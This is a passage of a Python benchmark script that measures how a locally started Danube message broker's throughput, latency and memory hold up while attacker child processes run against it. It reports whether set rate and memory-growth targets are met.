    health = _grpc_method(ch, HEALTH, pb.HealthCheckResponse)
    pid = (await create(pb.ProducerRequest(producer_name=f"good-{uuid.uuid4().hex[:8]}",
                                           topic_name="/default/hostile-good"),
                        timeout=10)).producer_id
    req = pb.HealthCheckRequest(request_id=1, client=0, id=pid)
    await health(req, timeout=10)
    state = {"ok": 0, "err": 0, "codes": collections.Counter(), "lat": []}
    stop = asyncio.Event()

    async def loop():
        while not stop.is_set():
            t = time.perf_counter()
            try:
                await health(req, timeout=GOOD_TIMEOUT)
                state["ok"] += 1
                state["lat"].append(time.perf_counter() - t)
            except grpc.aio.AioRpcError as exc:
                state["err"] += 1
                state["codes"][exc.code().name] += 1
                await asyncio.sleep(0.01)

    loop_ = asyncio.get_running_loop()
    commands = asyncio.Queue()

    def reader():
        for line in sys.stdin:
            loop_.call_soon_threadsafe(commands.put_nowait, line.strip())
        loop_.call_soon_threadsafe(commands.put_nowait, None)
    threading.Thread(target=reader, daemon=True).start()
    tasks = [asyncio.ensure_future(loop()) for _ in range(GOOD_CONCURRENCY)]
    emit({"event": "ready"})
    while True:
        line = await commands.get()
        if line is None or '"exit"' in line:
            break
        if '"mark"' in line:
            lat = sorted(state["lat"])
            state["lat"] = []
            emit({"event": "mark", "t": time.monotonic(), "ok": state["ok"],
                  "err": state["err"], "codes": dict(state["codes"]),
                  "p50_ms": lat[len(lat) // 2] * 1e3 if lat else None,
                  "p99_ms": lat[int(len(lat) * 0.99)] * 1e3 if lat else None})
    stop.set()
    for t in tasks:
        t.cancel()
    await ch.close(grace=None)


class Child(LineWorker):
    def __init__(self, args, log_path, label):
        cmd = [sys.executable, "-P", "-m", "bench.hostile", "--child", *args]
        self._start(cmd, env=repo_env(), cwd=REPO, log_path=log_path, label=label)


# -- orchestration --------------------------------------------------------------------------

def rss_kib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return None


class Sampler(threading.Thread):
    """The broker's RSS and CPU every 50 ms, for the whole life of one attack's broker."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.samples = []             # (monotonic, rss KiB)
        self.stopping = False

    def run(self):
        while not self.stopping:
            r = rss_kib(self.pid)
            if r is None:
                return
            self.samples.append((time.monotonic(), r))
            time.sleep(0.05)

    def peak(self, t0, t1):
        vals = [r for t, r in self.samples if t0 <= t <= t1]
        return max(vals) if vals else None


def rate(m0, m1):
    dt = m1["t"] - m0["t"]
    return (m1["ok"] - m0["ok"]) / dt if dt > 0 else 0.0


def run_attack(name, args, scratch):
    from bench.e2e.runner import Broker
    print(f"[{name}] {ATTACKS[name][1]}", flush=True)
    res = {"attack": name, "finding": ATTACKS[name][0], "what": ATTACKS[name][1]}
    broker = good = attacker = sampler = None
    try:
        broker = Broker(scratch / f"{name}-data", scratch / f"{name}-broker.log")
        res["broker_log"] = str(scratch / f"{name}-broker.log")
        sampler = Sampler(broker.pid)
        sampler.start()
        good = Child(["good", "--port", str(broker.port)], scratch / f"{name}-good.log",
                     "good client")
        good.expect("ready", 60)
        time.sleep(0.5)                               # let start-up settle
        # Window 1: the well-behaved client alone.
        good.send(cmd="mark")
        m0 = good.expect("mark", 10)
        c0 = proc_cpu(broker.pid)
        time.sleep(args.duration)
        good.send(cmd="mark")
        m1 = good.expect("mark", 10)
        c1 = proc_cpu(broker.pid)
        res["alone"] = {"rate": rate(m0, m1), "errors": m1["err"] - m0["err"],
                        "p50_ms": m1["p50_ms"], "p99_ms": m1["p99_ms"],
                        "broker_cores": (c1 - c0) / (m1["t"] - m0["t"])}
        rss_before = rss_kib(broker.pid)
        t_attack = time.monotonic()
        # Window 2: the same, with the attack going on. The attacker's deadline covers the
        # window plus its own start-up; attack 8 always runs its 10 s.
        seconds = args.duration + 1.5
        if name == "oversize_redelivery":
            seconds = max(seconds, REDELIVERY_SECONDS + 1.0)
        attacker = Child(["attack", name, "--port", str(broker.port), "--seconds",
                          str(seconds), "--nice", str(args.attacker_nice)],
                         scratch / f"{name}-attack.log", "attacker")
        attacker.expect("started", 60)
        time.sleep(0.2)                               # the attack under way
        good.send(cmd="mark")
        m2 = good.expect("mark", 30)
        c2 = proc_cpu(broker.pid)
        s2 = system_busy()
        time.sleep(args.duration)
        good.send(cmd="mark")
        m3 = good.expect("mark", 30)
        c3 = proc_cpu(broker.pid)
        s3 = system_busy()
        res["under_attack"] = {"rate": rate(m2, m3), "errors": m3["err"] - m2["err"],
                               "error_codes": m3["codes"], "p50_ms": m3["p50_ms"],
                               "p99_ms": m3["p99_ms"],
                               "broker_cores": (c3 - c2) / (m3["t"] - m2["t"]),
                               "machine_cores": (s3 - s2) / (m3["t"] - m2["t"])}
        print(f"  alone {res['alone']['rate']:,.0f}/s, under attack "
              f"{res['under_attack']['rate']:,.0f}/s "
              f"(errors {res['under_attack']['errors']}), broker "
              f"{res['under_attack']['broker_cores']:.2f} cores", flush=True)
        try:
            result = attacker.expect("result", seconds + 30)
        except RuntimeError as exc:
            result = {"outcome": f"no result: {str(exc)[:200]}"}
        result.pop("event", None)
        attacker.stop()
        attacker = None
        if name == "oversize_redelivery" and "topic" in result:
            m = broker.metrics(result["topic"])
            result["broker_metrics"] = m
            redel = m.get("danube_subscription_redelivery_total")
            sent = m.get("danube_consumer_messages_out_total")
            sent_b = m.get("danube_consumer_bytes_out_total")
            result["redeliveries"] = redel
            result["outcome"] += (f"; broker sent it {int(sent or 0):,}x "
                                  f"({(sent_b or 0) / 2**30:.1f} GiB), "
                                  f"{int(redel or 0):,} redeliveries")
        # After: the attacker is gone; give the broker a moment to free what it held.
        time.sleep(args.settle)
        alive = broker.proc.poll() is None
        rss_after = rss_kib(broker.pid) if alive else None
        # The peak runs to the "after" reading: a broker may still be working through
        # the frames an attacker wrote before it exited.
        peak = sampler.peak(t_attack, time.monotonic())
        if rss_after is not None:
            peak = max(peak or 0, rss_after)
        good.send(cmd="mark")
        try:
            m4 = good.expect("mark", 10)
            res["after_errors"] = m4["err"] - m3["err"]
        except RuntimeError:
            pass
        res.update({"attack_result": result, "rss_before_kib": rss_before,
                    "rss_peak_kib": peak, "rss_after_kib": rss_after,
                    "broker_alive_after": alive,
                    "broker_cpu_total_s": proc_cpu(broker.pid) if alive else None})
        if not alive:
            result["outcome"] = f"BROKER DIED (rc={broker.proc.returncode}); " \
                + result.get("outcome", "")
        print(f"  RSS {mib(rss_before)} -> peak {mib(peak)} -> after {mib(rss_after)}; "
              f"{result.get('outcome')}", flush=True)
    except Exception as exc:  # noqa: BLE001 - one attack failing must not end the run
        res["error"] = repr(exc)[:500]
        print(f"  ERROR: {res['error']}", flush=True)
    finally:
        for child in (attacker, good):
            if child is not None:
                try:
                    child.stop()
                except Exception:  # noqa: BLE001
                    pass
        if sampler is not None:
            sampler.stopping = True
        if broker is not None:
            reap(broker.proc, 5.0)      # a broker still busy with a flood gets SIGKILL
            broker.log.close()
    return res


def mib(kib):
    return "-" if kib is None else f"{kib / 1024:.0f}"


def table(results, bound_mib):
    head = ["attack", "#", "alone/s", "attacked/s", "ratio", "errs", "RSS MiB before",
            "peak", "after", "outcome"]
    rows = []
    for r in results:
        if "error" in r:
            rows.append([r["attack"], r["finding"], "-", "-", "-", "-", "-", "-", "-",
                         "ERROR " + r["error"][:80]])
            continue
        a, u = r["alone"]["rate"], r["under_attack"]["rate"]
        rows.append([r["attack"], r["finding"], f"{a:,.0f}", f"{u:,.0f}",
                     f"{u / a:.2f}" if a else "-", str(r["under_attack"]["errors"]),
                     mib(r["rss_before_kib"]), mib(r["rss_peak_kib"]), mib(r["rss_after_kib"]),
                     r["attack_result"].get("outcome", "")])
    return format_table(head, rows)


def targets(results, bound_mib):
    lines = []
    for r in results:
        if "error" in r:
            lines.append(f"  {r['attack']:<20} not measured ({r['error'][:60]})")
            continue
        a, u = r["alone"]["rate"], r["under_attack"]["rate"]
        ratio = u / a if a else 0.0
        growth = ((r["rss_peak_kib"] or 0) - (r["rss_before_kib"] or 0)) / 1024
        ok_rate = ratio >= RATE_TARGET
        ok_rss = r["rss_peak_kib"] is not None and growth <= bound_mib \
            and r["broker_alive_after"]
        r["targets"] = {"rate_met": ok_rate, "rss_met": ok_rss, "rss_growth_mib": growth}
        lines.append(f"  {r['attack']:<20} rate {ratio:4.2f}x: "
                     f"{'met' if ok_rate else 'NOT met':<7}  RSS +{growth:,.0f} MiB: "
                     f"{'met' if ok_rss else 'NOT met'}"
                     + ("" if r["broker_alive_after"] else " (broker died)"))
    return "\n".join(lines)


def main(argv=None):
    ap = argparse.ArgumentParser(prog="python -m bench.hostile", description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--quick", action="store_true", help="3 s windows (about 3 minutes)")
    ap.add_argument("--duration", type=float, help="seconds per window (default 8; 3 quick)")
    ap.add_argument("--attacks", default=",".join(ATTACKS),
                    help="comma-separated, from: " + ", ".join(ATTACKS))
    ap.add_argument("--rss-bound-mib", type=float, default=256.0,
                    help="allowed RSS growth over the broker's RSS before the attack")
    ap.add_argument("--attacker-nice", type=int, default=10,
                    help="nice increment of the attacking process (0: same priority)")
    ap.add_argument("--settle", type=float, default=1.5,
                    help="seconds after the attack before RSS 'after' is read")
    ap.add_argument("--json", default=str(RESULTS))
    ap.add_argument("--child", nargs="+", help=argparse.SUPPRESS)
    ap.add_argument("--port", type=int, help=argparse.SUPPRESS)
    ap.add_argument("--seconds", type=float, help=argparse.SUPPRESS)
    ap.add_argument("--nice", type=int, default=0, help=argparse.SUPPRESS)
    args = ap.parse_args(argv)

    if args.child:
        from bench._proc import pdeathsig
        pdeathsig()
        if args.child[0] == "good":
            asyncio.run(good_client(args.port))
        else:
            child_attack(args.child[1], args.port, args.seconds, args.nice)
        return

    if args.duration is None:
        args.duration = 3.0 if args.quick else 8.0
    names = [n.strip() for n in args.attacks.split(",") if n.strip()]
    unknown = [n for n in names if n not in ATTACKS]
    if unknown:
        ap.error(f"unknown attacks {unknown}; known: {', '.join(ATTACKS)}")

    def on_term(signum, frame):
        raise KeyboardInterrupt
    signal.signal(signal.SIGTERM, on_term)
    scratch = Path(tempfile.mkdtemp(prefix="danube-hostile-"))
    started = time.time()
    load_before = os.getloadavg()
    results = []
    print(f"bench.hostile: {len(names)} attacks, {args.duration:g} s windows, well-behaved "
          f"client = grpc.aio, {GOOD_CONCURRENCY} HealthCheck loops; attacker at nice "
          f"+{args.attacker_nice}; logs in {scratch}", flush=True)
    try:
        for name in names:
            results.append(run_attack(name, args, scratch))
    except KeyboardInterrupt:
        print("interrupted: stopping children", flush=True)
    finally:
        reap_all()
    print()
    print(table(results, args.rss_bound_mib))
    print()
    print(f"targets: well-behaved unary rate under attack >= {RATE_TARGET}x alone; RSS peak "
          f"<= start + {args.rss_bound_mib:g} MiB (--rss-bound-mib)")
    print(targets(results, args.rss_bound_mib))
    print(f"load average before {load_before[0]:.2f}, after {os.getloadavg()[0]:.2f}; "
          f"{time.time() - started:.0f} s")
    out = Path(args.json)
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(json.dumps({
        "when": datetime.datetime.now(datetime.timezone.utc).isoformat(),
        "host": platform.node(), "python": sys.version, "argv": sys.argv,
        "duration": args.duration, "rss_bound_mib": args.rss_bound_mib,
        "attacker_nice": args.attacker_nice, "scratch": str(scratch),
        "load_before": load_before, "load_after": os.getloadavg(), "results": results,
    }, indent=2, default=str))
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
